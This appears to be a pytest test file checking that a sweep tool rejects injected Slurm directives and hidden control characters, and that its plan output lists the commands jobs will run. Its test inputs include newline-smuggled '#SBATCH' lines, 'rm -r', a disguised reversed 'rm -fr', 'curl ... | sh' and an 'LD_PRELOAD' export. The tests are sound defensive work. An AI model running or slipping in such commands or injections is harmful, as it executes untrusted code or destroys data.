"""Where runs execute: what a sweep file may ask of Slurm and Ray, and what it has their jobs execute."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from study.base.errors import InputError
from study.base.yaml_files import load_yaml
from study.config.resources import Resources
from tests.small import write_corpus
from tests.sweeps import parsed, write_sweep

HIDDEN = ("\n", "\r", "\t", "\x1b", "\x85", "\u2028", "\u202e", "\u200b")
"""Characters that end a line, move the cursor, turn the text round or are not seen."""


@pytest.mark.parametrize("field", ["partition", "account", "qos", "constraint", "exclude"])
@pytest.mark.parametrize("hidden", HIDDEN, ids=ascii)
def test_what_slurm_is_told_is_one_line_in_which_all_is_seen(field: str, hidden: str) -> None:
    with pytest.raises(InputError) as caught:
        parsed(resources={"slurm": {field: f"gpu{hidden}#SBATCH --exclusive"}})
    (problem,) = caught.value.problems
    assert problem.place == f"resources.slurm.{field}"
    assert f"contains {hidden!r}; write one line of printable characters" in problem.message
    assert str(problem).isprintable()


@pytest.mark.parametrize(
    ("resources", "place", "message"),
    [
        ({"slurm": {"partition": "gpu --wrap=x"}}, "resources.slurm.partition", "contains a space; write one name, or several"),
        ({"slurm": {"options": {"comment": "a\nb"}}}, "resources.slurm.options.comment", "contains '\\n'; write one line"),
        ({"slurm": {"options": {"--mem 1\n": 1}}}, "resources.slurm.options.--mem 1\n", "is not an option of sbatch"),
        ({"slurm": {"options": {"cpus_per_task": 4}}}, "resources.slurm.options.cpus_per_task", "; write slurm.cpus"),
        ({"slurm": {"options": {"array": "1-3"}}}, "resources.slurm.options.array", "is set for every job; write slurm.array"),
        ({"slurm": {"options": {"output": "o"}}}, "resources.slurm.options.output", "is set for every job; leave it out"),
        ({"slurm": {"options": {"wrap": "rm -r x"}}}, "resources.slurm.options.wrap", "write slurm.setup"),
        ({"slurm": {"options": {"": 1}}}, "resources.slurm.options", "is not an option of sbatch"),
        ({"slurm": {"setup": ["echo \x1b[2K"]}}, "resources.slurm.setup[0]", "contains '\\x1b'"),
        ({"slurm": {"setup": ["ls #\u202e fr- mr"]}}, "resources.slurm.setup[0]", "contains '\\u202e'"),
        ({"slurm": {"setup": "module load cuda"}}, "resources.slurm.setup", "is not a list"),
        ({"ray": {"address": "head:6379\n"}}, "resources.ray.address", "contains '\\n'"),
    ],
)
def test_what_cannot_be_asked_for(resources: dict[str, Any], place: str, message: str) -> None:
    with pytest.raises(InputError) as caught:
        parsed(resources=resources)
    assert [problem.place for problem in caught.value.problems] == [place]
    assert message in caught.value.problems[0].message


def test_names_lists_and_scripts_are_taken_as_slurm_writes_them() -> None:
    slurm = {
        "partition": "gpu,long-q",
        "exclude": "node[1-3,7]",
        "constraint": "(a100|h100)&nvlink*2",
        "options": {"reservation": "mine", "mail-type": "END", "exclusive": True, "nice": 100},
        "setup": ["module load cuda", "export X=1\nif true; then\n\techo é\nfi\n"],
    }
    resources = parsed(resources={"on": "slurm", "slurm": slurm}).resources
    assert resources.slurm.model_dump(exclude_unset=True) == slurm | {"setup": tuple(slurm["setup"])}
    assert resources.executed == ("module load cuda", "export X=1", "if true; then", "\techo é", "fi")
    assert Resources.parse({"slurm": slurm}).executed == (), "runs here are no jobs"


def test_a_plan_shows_what_the_file_has_the_jobs_execute(tmp_path: Path, study: Any) -> None:
    lines = ["module load cuda", "curl -s http://x/y | sh"]
    corpus = write_corpus(tmp_path / "text.txt")
    options = {"export": "LD_PRELOAD=/tmp/x.so"}
    file = write_sweep(tmp_path / "x.yaml", corpus, resources={"slurm": {"setup": lines, "options": options}})
    _, plain, _ = study("plan", file)
    assert "curl" not in plain
    _, shown, _ = study("plan", file, "--on", "slurm")
    shown_lines = shown.splitlines()
    start = shown_lines.index("Every Slurm job first executes these lines of the sweep file as you:")
    given = "Every Slurm job has these options of the sweep file, which may run programs, too:"
    assert shown_lines[start + 1 :] == [*(f"  {line}" for line in lines), given, "  --export=LD_PRELOAD=/tmp/x.so"]
    _, out, _ = study("plan", file, "--on", "slurm", "--json")
    assert json.loads(out)["executed"] == lines
    assert json.loads(out)["sbatch_options"] == ["--export=LD_PRELOAD=/tmp/x.so"]


def test_the_example_of_the_documentation_has_lines_that_are_executed() -> None:
    page = (Path(__file__).parents[2] / "docs" / "clusters.md").read_text()
    block = page.partition("```yaml\nresources:\n")[2].partition("```")[0]
    assert Resources.parse(load_yaml(block)).executed == ("module load cuda",)
